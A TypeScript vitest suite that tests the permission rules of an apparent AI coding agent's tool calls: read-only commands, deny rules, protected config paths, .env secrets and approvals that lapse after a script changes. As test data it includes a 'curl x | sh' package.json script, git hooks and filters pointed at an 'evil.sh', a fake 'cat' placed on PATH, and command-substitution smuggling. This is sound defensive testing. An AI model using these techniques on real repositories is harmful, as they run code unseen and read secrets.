import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Mode } from '../../src/core/coordinator.js';
import type { Approval } from '../../src/core/decision.js';
import type { ApprovalRequest } from '../../src/ui/session-port.js';
import { collect, ofType, scriptedOrchestrator, toolCall } from '../helpers/scripted-orchestrator.js';
import { makeWorkspace } from '../helpers/workspace.js';

const files = {
  'a.txt': 'hello\n',
  'src/b.ts': 'export const b = 1;\n',
  '.env': 'PASSWORD=hunter2\n',
  'notes.md': 'notes\n',
  'package.json': '{ "name": "x", "version": "1.0.0", "scripts": { "test": "true" } }\n',
};

interface Given {
  readonly mode?: Mode;
  readonly allow?: string[];
  readonly ask?: string[];
  readonly deny?: string[];
}

/** What really happened to one call in a workspace of its own, with nobody to ask. */
async function attempt(tool: string, input: Record<string, unknown>, permissions: Given = {}) {
  const cwd = await makeWorkspace(files);
  const made = await scriptedOrchestrator([toolCall(tool, input), { text: 'done' }], {
    cwd,
    environment: { PATH: process.env.PATH },
    settings: { permissions },
  });
  const events = await collect(made.orchestrator.stream('go'));
  const { decision } = ofType(events, 'tool-decision')[0]!;
  const { result, denied } = ofType(events, 'tool-result')[0]!;
  return {
    cwd,
    verdict: decision.verdict,
    reason: decision.reason,
    rule: decision.rule,
    content: result.content,
    denied,
  };
}

const bash = (command: string, permissions?: Given) => attempt('Bash', { command }, permissions);

describe('commands that only read', () => {
  const modes: Mode[] = ['ask', 'accept-edits', 'plan', 'read-only', 'yolo'];
  it.each(modes)('S01: run without asking in mode %s, and say what they read', async (mode) => {
    const one = await bash('cat a.txt', { mode });
    expect(one).toMatchObject({ verdict: 'allow', denied: false });
    expect(one.content).toContain('hello');
    expect((await bash('cat a.txt | wc -l', { mode })).content).toMatch(/\b1\b/);
  });

  it.each(modes.slice(0, 4))('S02, S08, S12: anything else asks or is refused in mode %s', async (mode) => {
    for (const command of [
      'cat a.txt; touch made',
      'ls > made',
      'find . -name a.txt -exec touch made {} +',
    ]) {
      const { denied, cwd } = await bash(command, { mode });
      expect(denied).toBe(true);
      expect(existsSync(join(cwd, 'made'))).toBe(false);
    }
  });

  it.each(['cat /etc/hostname', 'cat ../x', 'cd .. && cat x', 'head -n 1 a.txt /etc/hostname'])(
    'P01, P02: %s reads outside the workspace, so it asks',
    async (command) => expect((await bash(command)).denied).toBe(true),
  );

  it('P05: a link that leads outside is outside for commands too', async () => {
    const outside = await makeWorkspace({ x: 'secret words' });
    const cwd = await makeWorkspace();
    symlinkSync(join(outside, 'x'), join(cwd, 'link'));
    const { orchestrator } = await scriptedOrchestrator([toolCall('Bash', { command: 'cat link' })], { cwd });
    expect((await orchestrator.chat('go')).denials[0]?.reason).toContain('outside the workspace');
  });

  it('S11: a program that the workspace brings is not the one that runs', async () => {
    const cwd = await makeWorkspace({ 'bin/cat': '#!/bin/sh\ntouch "$0.ran"\n', 'a.txt': 'hello\n' });
    execFileSync('chmod', ['+x', join(cwd, 'bin/cat')]);
    const steps = [
      toolCall('Bash', { command: 'cat a.txt' }),
      toolCall('Bash', { command: 'cat a.txt | cat' }),
    ];
    const path = process.env.PATH;
    process.env.PATH = `${join(cwd, 'bin')}:${path}`;
    try {
      const { orchestrator } = await scriptedOrchestrator([...steps, { text: 'done' }], { cwd });
      const events = await collect(orchestrator.stream('go'));
      expect(ofType(events, 'tool-result').map(({ result }) => result.content.includes('hello'))).toEqual([
        true,
        true,
      ]);
    } finally {
      process.env.PATH = path;
    }
    expect(existsSync(join(cwd, 'bin/cat.ran'))).toBe(false);
  });

  it('S16: git that only looks runs no program of the repository, alone and in a pipeline', async () => {
    const cwd = await makeWorkspace({ 'a.txt': 'one\n', '.gitattributes': '*.txt diff=evil filter=evil\n' });
    const git = (...args: string[]) => execFileSync('git', args, { cwd });
    git('init', '-q');
    git('add', '.');
    git('-c', 'user.name=n', '-c', 'user.email=e@x', 'commit', '-qm', 'first');
    writeFileSync(join(cwd, 'evil.sh'), '#!/bin/sh\ntouch "$(dirname "$0")/ran"\ncat\n', { mode: 0o755 });
    const evil = join(cwd, 'evil.sh');
    for (const key of [
      'core.fsmonitor',
      'core.pager',
      'diff.external',
      'diff.evil.textconv',
      'diff.evil.command',
      'filter.evil.clean',
      'filter.evil.smudge',
    ])
      git('config', key, evil);
    writeFileSync(join(cwd, 'a.txt'), 'two\n');
    const commands = [
      'git status',
      'git diff',
      'git log -p',
      'git show HEAD',
      'git blame a.txt',
      'git diff | head -5',
      'git log -p --oneline | cat',
    ];
    const steps = commands.map((command) => toolCall('Bash', { command }));
    const { orchestrator } = await scriptedOrchestrator([...steps, { text: 'done' }], { cwd });
    const results = ofType(await collect(orchestrator.stream('go')), 'tool-result');
    expect(results.map(({ denied }) => denied)).toEqual(commands.map(() => false));
    expect(results.map(({ result }) => result.content.split('\n', 1)[0])).toEqual(
      commands.map(() => expect.stringContaining('Exit code 0')),
    );
    expect(results[1]!.result.content).toContain('+two');
    expect(existsSync(join(cwd, 'ran'))).toBe(false);
  });
});

describe('rules with a pattern', () => {
  it('S22: Bash(git log:*) covers whole words only, and Bash(npm test) nothing but these', async () => {
    const allow = ['Bash(touch one:*)', 'Bash(mkdir two)'];
    expect((await bash('touch one', { allow })).rule).toBe('Bash(touch one:*)');
    expect((await bash('touch one three', { allow })).denied).toBe(false);
    expect((await bash('touch onetwo', { allow })).denied).toBe(true);
    expect((await bash('mkdir two', { allow })).denied).toBe(false);
    expect((await bash('mkdir two three', { allow })).denied).toBe(true);
  });

  it('allow: every command of the line must be allowed or only read', async () => {
    const allow = ['Bash(touch:*)'];
    expect((await bash('touch made && cat a.txt', { allow })).denied).toBe(false);
    for (const command of [
      'touch made; rm a.txt',
      'touch "$(rm a.txt)"',
      'touch made > a.txt',
      'FOO=1 touch made',
    ]) {
      const { denied, cwd } = await bash(command, { allow });
      expect([command, denied]).toEqual([command, true]);
      expect(readFileSync(join(cwd, 'a.txt'), 'utf8')).toBe('hello\n');
    }
  });

  it.each([50, 51, 500, 10_000])(
    'S20: a denied command at the end of %i others denies the whole',
    async (count) => {
      const { verdict } = await bash(`${'true; '.repeat(count)}touch made`, {
        mode: 'yolo',
        deny: ['Bash(touch:*)'],
      });
      expect(verdict).toBe('deny');
    },
  );

  it.each([
    '/usr/bin/touch made',
    'sudo touch made',
    'echo "$(touch made)"',
    'cat a.txt | xargs touch',
    'x=1; (touch made)',
  ])('S13: a deny rule sees through %s', async (command) => {
    const { verdict, cwd } = await bash(command, { mode: 'yolo', deny: ['Bash(touch:*)'] });
    expect(verdict).toBe('deny');
    expect(existsSync(join(cwd, 'made'))).toBe(false);
  });

  it('deny wins over ask, ask over allow, within patterns', async () => {
    const all = ['Bash(touch made)'];
    expect((await bash('touch made', { deny: all, ask: all, allow: all })).verdict).toBe('deny');
    expect((await bash('touch made', { ask: all, allow: all, mode: 'yolo' })).verdict).toBe('ask');
  });

  it('paths: Edit(*.md) allows Markdown and nothing else; Read(src/**) denied holds for Grep and cat', async () => {
    const allow = ['Write(*.md)'];
    expect((await attempt('Write', { path: 'deep/new.md', content: 'x' }, { allow })).denied).toBe(false);
    expect((await attempt('Write', { path: 'new.txt', content: 'x' }, { allow })).denied).toBe(true);
    const deny = ['Read(src/**)'];
    expect((await attempt('Read', { path: 'src/b.ts' }, { deny, mode: 'yolo' })).verdict).toBe('deny');
    expect((await attempt('Read', { path: 'SRC/../src/./b.ts' }, { deny })).verdict).toBe('deny');
    expect((await attempt('Grep', { pattern: 'b', path: 'src' }, { deny: ['Read(src)'] })).verdict).toBe(
      'deny',
    );
    expect((await bash('cat src/b.ts', { deny })).verdict).toBe('deny');
    expect((await bash('cat a.txt src/b.ts', { deny, mode: 'yolo' })).verdict).toBe('deny');
    expect((await attempt('Read', { path: 'a.txt' }, { deny })).verdict).toBe('allow');
  });

  const denied: [string, string][] = [
    ['secr\u00e9t/x', 'secre\u0301t/x'],
    ['secre\u0301t/x', 'secr\u00e9t/x'],
    ['private/x', 'PRIVATE/X'],
    ['private/x', 'private./x'],
    ['private/x', 'private/x. .'],
    ['private/x', 'private/x::$DATA'],
    ['/etc/hostname', '/etc/HOSTNAME.'],
  ];
  it.each(denied)('P12, P13: Read(%s) denied and Edit of the same hold for %s', async (rule, path) => {
    const deny = [`Read(${rule})`, `Edit(${rule})`];
    for (const [tool, input] of [
      ['Read', { path }],
      ['Grep', { pattern: 'x', path }],
      ['Write', { path, content: 'x' }],
      // Letters beyond ASCII are not read exactly in a command, which asks for that.
      ...(/^[ -~]+$/.test(path) ? [['Bash', { command: `cat '${path}'` }] as const] : []),
    ] as const)
      expect(await attempt(tool, input, { deny, mode: 'yolo' })).toMatchObject({
        verdict: 'deny',
        denied: true,
      });
    expect((await attempt('Read', { path: 'private/xy' }, { deny, mode: 'yolo' })).verdict).toBe('allow');
  });

  it('an allow rule may name what lies outside', async () => {
    const outside = await makeWorkspace({ x: 'words of a neighbour' });
    const allow = [`Read(${outside}/**)`];
    expect((await attempt('Read', { path: join(outside, 'x') }, { allow })).content).toContain('a neighbour');
    expect(await bash(`cat ${join(outside, 'x')}`, { allow })).toMatchObject({
      verdict: 'allow',
      denied: false,
    });
  });
});

describe('secrets', () => {
  it('P17: .env is not read by Read, Grep or commands, not even in mode yolo', async () => {
    for (const mode of ['ask', 'yolo'] as const) {
      const tries = [
        await attempt('Read', { path: '.env' }, { mode }),
        await attempt('Grep', { pattern: '.', path: '.env' }, { mode }),
        await attempt('Grep', { pattern: 'PASSWORD' }, { mode }),
        await bash('cat .env', { mode }),
        await bash('grep -r PASSWORD .', { mode }),
        await bash('cat ./.env | head -1', { mode }),
        await attempt('Read', { path: '/proc/self/environ' }, { mode }),
      ];
      for (const { content } of tries) expect(content).not.toContain('hunter2');
      expect(tries[0]).toMatchObject({ verdict: 'deny', denied: true });
      expect(tries[3]!.verdict).toBe('deny');
      expect(tries[6]!.verdict).toBe('deny');
    }
  });

  it('P17: a link to .env is .env, and a rule of the user opens what it names', async () => {
    const cwd = await makeWorkspace(files);
    symlinkSync('.env', join(cwd, 'plain.txt'));
    const { orchestrator } = await scriptedOrchestrator([toolCall('Read', { path: 'plain.txt' })], { cwd });
    expect((await orchestrator.chat('go')).denials[0]?.reason).toContain('may hold secrets');
    expect((await attempt('Read', { path: '.env' }, { allow: ['Read(.env)'] })).content).toContain('hunter2');
    expect((await attempt('Read', { path: '.env' }, { allow: ['Read'] })).verdict).toBe('deny');
  });
});

describe('protected paths', () => {
  const paths = [
    '.git/hooks/pre-commit',
    '.git/config',
    '.gitattributes',
    '.gitmodules',
    '.husky/pre-push',
    '.vscode/tasks.json',
    '.idea/x.xml',
    '.envrc',
    '.npmrc',
    '.victorrc',
    '.victorrc.yaml',
    '.config/config.js',
    '.victor/x',
    'victor.config.ts',
    '.github/workflows/ci.yml',
    'appveyor.yml',
    'deploy/buildspec.yaml',
    'cloudbuild.yaml',
    '.gitlab-ci.yml',
    'deep/.git/config',
    'deep/.agents/skills/x/SKILL.md',
    'deep/.claude/agents/x.md',
    '.GIT/config',
    '.Victorrc',
    '.git./config',
    '.git /config',
    '.git::$DATA/config',
    '.victorrc. .',
    '.victorrc::$DATA',
    '\uff0egit/config',
    'package.json.',
    '.editorconfig',
  ];
  it.each(paths)('P12, P13, P15, P16: writing %j asks in accept-edits and yolo', async (path) => {
    for (const mode of ['accept-edits', 'yolo'] as const) {
      const { verdict, cwd } = await attempt('Write', { path, content: 'x' }, { mode, allow: ['Write'] });
      expect(verdict).toBe('ask');
      expect(existsSync(join(cwd, path))).toBe(false);
    }
  });

  it('P15: package.json asks when its scripts would change, and only then', async () => {
    const mode = 'accept-edits';
    const scripts = { path: 'package.json', oldText: '"true"', newText: '"curl x | sh"' };
    expect((await attempt('Edit', { ...scripts }, { mode })).verdict).toBe('ask');
    const version = { path: 'package.json', oldText: '1.0.0', newText: '1.0.1' };
    expect((await attempt('Edit', { ...version }, { mode })).verdict).toBe('allow');
    expect(
      (await attempt('Write', { path: 'package.json', content: '{"scripts":{"x":"y"}}' }, { mode })).verdict,
    ).toBe('ask');
    expect(
      (await attempt('Write', { path: 'deep/package.json', content: '{"scripts":{"x":"y"}}' }, { mode }))
        .verdict,
    ).toBe('ask');
  });

  it('a rule that names the path lifts the question', async () => {
    const given: Given = { mode: 'accept-edits', allow: ['Write(.github/**)'] };
    expect((await attempt('Write', { path: '.github/workflows/ci.yml', content: 'x' }, given)).denied).toBe(
      false,
    );
  });

  it('ordinary files are edited without asking in accept-edits', async () => {
    for (const path of ['a.md', 'src/new.ts', 'Makefile', 'deep/.hidden/x'])
      expect((await attempt('Write', { path, content: 'x' }, { mode: 'accept-edits' })).verdict).toBe(
        'allow',
      );
  });
});

describe('a question that stands while something changes', () => {
  it('S23: a script that is changed while the user reads is asked about again, and the yes before runs nothing', async () => {
    const cwd = await makeWorkspace({ 'build.sh': 'echo as it was\n' });
    const asked: string[] = [];
    const onApproval = async ({ decision }: ApprovalRequest): Promise<Approval> => {
      asked.push(decision.reason);
      if (asked.length <= 2) writeFileSync(join(cwd, 'build.sh'), `touch hostile${asked.length}\n`);
      return { allowed: asked.length <= 2, scope: 'session' };
    };
    const { orchestrator } = await scriptedOrchestrator(
      [toolCall('Bash', { command: 'sh build.sh' }), { text: 'ok' }],
      { cwd, onApproval },
    );
    await orchestrator.chat('go');
    expect(asked).toHaveLength(3);
    expect(asked[0]).not.toContain('while you were asked');
    for (const again of asked.slice(1))
      expect(again.split('What it runs has changed while you were asked.')).toHaveLength(2);
    expect(existsSync(join(cwd, 'hostile1')) || existsSync(join(cwd, 'hostile2'))).toBe(false);
  });

  it('S23: what the user sees again and allows runs as it is then', async () => {
    const cwd = await makeWorkspace({ 'build.sh': 'echo as it was\n' });
    let asked = 0;
    const onApproval = async (): Promise<Approval> => {
      asked += 1;
      if (asked === 1) writeFileSync(join(cwd, 'build.sh'), 'touch seen\n');
      return { allowed: true, scope: 'once' };
    };
    const { orchestrator } = await scriptedOrchestrator(
      [toolCall('Bash', { command: 'sh build.sh' }), { text: 'ok' }],
      { cwd, onApproval },
    );
    await orchestrator.chat('go');
    expect(asked).toBe(2);
    expect(existsSync(join(cwd, 'seen'))).toBe(true);
  });
});

describe('remembered approvals', () => {
  const scripts: [string, string, string][] = [
    ['./build.sh', 'build.sh', '#!/bin/sh\n# changed\n'],
    ['bash build.sh', 'build.sh', '#!/bin/sh\n# changed\n'],
    ['npm test', 'package.json', '{ "scripts": { "test": "echo changed" } }'],
    ['node tool.js', 'tool.js', '// changed'],
    ['cd . && ./build.sh', 'build.sh', '#!/bin/sh\n# changed\n'],
  ];
  it.each(scripts)(
    'S23: %s allowed for the session asks again after %s changed',
    async (command, file, changed) => {
      const cwd = await makeWorkspace({
        'build.sh': '#!/bin/sh\n',
        'tool.js': '',
        'package.json': '{"scripts":{"test":"true"}}',
      });
      execFileSync('chmod', ['+x', join(cwd, 'build.sh')]);
      let asked = 0;
      const onApproval = async (): Promise<Approval> => {
        asked += 1;
        return { allowed: true, scope: 'session' };
      };
      const step = toolCall('Bash', { command });
      const { orchestrator } = await scriptedOrchestrator(
        [step, step, { text: 'ok' }, step, { text: 'ok' }],
        { cwd, onApproval },
      );
      await orchestrator.chat('go');
      expect(asked).toBe(1);
      writeFileSync(join(cwd, file), changed);
      await orchestrator.chat('go');
      expect(asked).toBe(2);
    },
  );

  it('P15: edits allowed for the session do not cover what is protected', async () => {
    const cwd = await makeWorkspace(files);
    const asked: string[] = [];
    const { orchestrator } = await scriptedOrchestrator(
      [
        toolCall('Write', { path: 'one.txt', content: 'x' }),
        toolCall('Write', { path: '.victorrc', content: 'x' }),
        toolCall('Write', { path: 'two.txt', content: 'x' }),
        { text: 'ok' },
      ],
      {
        cwd,
        onApproval: async ({ title }) => {
          asked.push(title);
          return { allowed: true, scope: 'session' };
        },
      },
    );
    await orchestrator.chat('go');
    expect(asked).toEqual(['one.txt', '.victorrc']);
  });
});
